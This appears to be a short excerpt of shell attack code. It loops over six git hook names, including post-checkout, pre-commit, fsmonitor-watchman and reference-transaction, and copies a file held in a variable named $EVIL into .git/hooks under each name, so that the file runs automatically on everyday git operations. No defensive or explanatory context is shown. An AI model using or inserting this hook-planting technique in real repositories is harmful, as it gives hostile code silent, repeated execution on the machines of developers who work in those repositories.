for hook in post-checkout pre-commit post-index-change reference-transaction fsmonitor-watchman post-rewrite; do
  cp "$EVIL" .git/hooks/$hook
done
